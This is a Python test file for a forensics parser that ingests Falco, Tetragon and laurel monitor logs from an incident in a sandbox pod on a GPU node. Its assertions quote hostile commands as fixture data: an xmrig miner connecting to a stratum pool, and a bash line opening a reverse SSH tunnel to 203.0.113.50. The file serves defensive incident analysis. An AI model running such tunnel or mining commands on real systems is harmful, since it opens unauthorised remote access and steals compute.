"""Runtime monitors on gpu-node-03: Falco alerts, Tetragon events and laurel's audit JSON."""

from __future__ import annotations

from pathlib import Path

import pytest

from forensics import Case
from forensics.registry import Sniff, choose_parser

DATA = Path(__file__).resolve().parent / "data" / "host"


@pytest.fixture()
def case(tmp_path):
    with Case(tmp_path / "case.duckdb") as c:
        yield c


def _rows(case: Case, sql: str):
    return case.con.execute(sql).fetchall()


@pytest.mark.parametrize("name, parser", [("falco.jsonl", "falco"), ("tetragon.jsonl", "tetragon"),
                                          ("laurel.jsonl", "laurel"), ("audit_sbx.log", "auditd")])
def test_each_monitor_file_goes_to_its_parser(name, parser):
    head = (DATA / name).read_bytes()[:65536]
    chosen, score = choose_parser(Sniff(name="events.json", path="events.json", head=head))
    assert chosen is not None and chosen.name == parser and score >= 0.9


def test_falco_alerts_name_the_miner_and_its_pool_connection(case):
    summary = case.ingest([str(DATA / "falco.jsonl")])
    outcome = summary.outcomes[0]
    assert (outcome.parser, outcome.n_records, outcome.n_warnings) == ("falco", 3, 1)
    rows = _rows(case, "SELECT rule, priority, severity, host, pid, ppid, exe, container_id, pod, remote_ip, "
                       "remote_port, locator FROM falco_alerts ORDER BY ts")
    assert rows == [
        ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "low", "gpu-node-03", 48110, 48000,
         "/usr/bin/bash", "9f1c2e7a4b5d", "sbx-0317", "10.20.1.13", 6379, "line:1"),
        ("Detect crypto miners using the Stratum protocol", "Critical", "critical", "gpu-node-03", 48211, 48000,
         "/tmp/.x/xmrig", "9f1c2e7a4b5d", "sbx-0317", None, None, "line:2"),
        ("Detect outbound connections to common miner pool ports", "Critical", "critical", "gpu-node-03", 48211,
         48000, "/tmp/.x/xmrig", "9f1c2e7a4b5d", "sbx-0317", "198.51.100.77", 3333, "line:4"),
    ]
    cmdline, tags, ts, fields = _rows(case, "SELECT cmdline, tags, ts, output_fields FROM falco_alerts "
                                            "WHERE locator = 'line:2'")[0]
    assert "stratum+tcp://xmr.pool.example.com:3333" in cmdline and "--cuda-devices=6,7" in cmdline
    assert "T1496" in tags
    assert ts.isoformat() == "2026-02-17T02:14:15+00:00"
    assert '"container.image.repository":"registry.example.org/rl/sandbox"' in fields
    assert _rows(case, "SELECT locator, reason FROM parse_warnings") == [("line:3", "not a JSON object (cut line?)")]


def test_tetragon_launches_with_their_parents_pods_and_exits(case):
    summary = case.ingest([str(DATA / "tetragon.jsonl")])
    assert summary.outcomes[0].parser == "tetragon"
    rows = _rows(case, "SELECT pid, ppid, ns_pid, exe, sandbox, pod, k8s_namespace, ts_end IS NOT NULL, locator "
                       "FROM processes ORDER BY ts")
    assert rows == [
        (47000, None, 3, "/usr/bin/python3", "sbx-0317", "sbx-0317", "rl-sandboxes", True, "line:11"),
        (48000, None, 1, "/usr/local/bin/sandbox-init", "sbx-0317", "sbx-0317", "rl-sandboxes", False, "line:1"),
        (48101, 48000, 12, "/usr/bin/nvidia-smi", "sbx-0317", "sbx-0317", "rl-sandboxes", True, "line:2"),
        (48140, 48000, 40, "/usr/bin/bash", "sbx-0317", "sbx-0317", "rl-sandboxes", False, "line:5"),
        (48150, 48140, 41, "/usr/bin/ssh", "sbx-0317", "sbx-0317", "rl-sandboxes", False, "line:6"),
        (48211, 48000, 57, "/tmp/.x/xmrig", "sbx-0317", "sbx-0317", "rl-sandboxes", False, "line:8"),
    ]
    # arguments are one string in Tetragon; quoted arguments stay whole
    argv = _rows(case, "SELECT argv FROM processes WHERE pid = 48211")[0][0]
    assert argv[0] == "/tmp/.x/xmrig" and argv[-2:] == ["--cuda-loader", "/tmp/.x/my lib.so"]
    assert _rows(case, "SELECT argv FROM processes WHERE pid = 48140")[0][0] == [
        "/usr/bin/bash", "-c", "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50"]
    # the container id is stored without its runtime prefix; the parent is named by exec id
    container, parent = _rows(case, "SELECT container_id, parent_exec_id FROM processes WHERE pid = 48150")[0]
    assert container.startswith("9f1c2e7a4b5d") and "containerd" not in container
    assert parent == _rows(case, "SELECT exec_id FROM processes WHERE pid = 48140")[0][0]
    sockets = _rows(case, "SELECT pid, syscall, remote_ip, remote_port, local_ip, success, result, locator "
                          "FROM process_sockets ORDER BY ts")
    assert sockets == [(48150, "tcp_connect", "203.0.113.50", 22, "10.244.3.17", None, "attempt", "line:7"),
                       (48211, "tcp_connect", "198.51.100.77", 3333, "10.244.3.17", None, "attempt", "line:9")]
    reasons = [r[1] for r in _rows(case, "SELECT locator, reason FROM parse_warnings ORDER BY locator")]
    assert "not a JSON object (cut line?)" in reasons
    assert "1 process_kprobe security_file_permission events are not process launches or connects: not loaded" in reasons


def test_laurel_events_decode_percent_encoding_and_sockaddrs(case):
    summary = case.ingest([str(DATA / "laurel.jsonl")], host="gpu-node-03")
    assert summary.outcomes[0].parser == "laurel"
    rows = _rows(case, "SELECT pid, ppid, exe, cwd, user_name, locator FROM processes ORDER BY ts")
    assert rows == [(48150, 48140, "/usr/bin/ssh", "/workspace", "sandbox", "line:1"),
                    (48211, 48000, "/tmp/.x/xmrig", "/tmp/.x", "sandbox", "line:3")]
    # '+' in the pool URL was written as %2b
    argv = _rows(case, "SELECT argv FROM processes WHERE pid = 48211")[0][0]
    assert argv[2] == "stratum+tcp://xmr.pool.example.com:3333"
    assert _rows(case, "SELECT pid, family, remote_ip, remote_port, success, result, locator FROM process_sockets "
                       "ORDER BY ts") == [
        (48150, "inet", "203.0.113.50", 22, True, "ok", "line:2"),
        (48211, "inet6", "2001:db8::77", 3333, None, "EINPROGRESS", "line:4"),
    ]
    assert _rows(case, "SELECT locator, reason FROM parse_warnings") == [("line:5", "not a JSON object (cut line?)")]
